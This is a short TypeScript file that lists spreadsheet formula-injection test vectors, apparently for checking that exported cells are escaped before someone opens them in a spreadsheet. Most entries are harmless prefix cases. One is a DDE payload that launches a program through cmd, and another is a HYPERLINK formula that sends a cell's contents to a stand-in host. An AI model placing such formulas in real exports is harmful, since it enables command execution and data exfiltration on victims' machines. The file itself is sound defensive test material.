/** What a spreadsheet takes for a formula, in words that others may write and an auditor opens in a table. */
type FormulaVector = { readonly row: number; readonly name: string; readonly reason: string };

const formula = (name: string, reason: string): FormulaVector => ({ row: 55, name, reason });

export const formulaVectors: readonly FormulaVector[] = [
  formula('begins with an equals sign', '=1+1'),
  formula('calls another program', "=cmd|' /C calc'!A0"),
  formula('sends a cell away', '=HYPERLINK("https://x.example/?"&A1,"open")'),
  formula('begins with a plus', '+1+1'),
  formula('begins with a minus', '-1+1'),
  formula('begins with an at', '@SUM(1+1)'),
  formula('begins with an equals sign in full width', '\uff1d1+1'),
  formula('closes the cell with a quote first', '"=1+1"'),
];
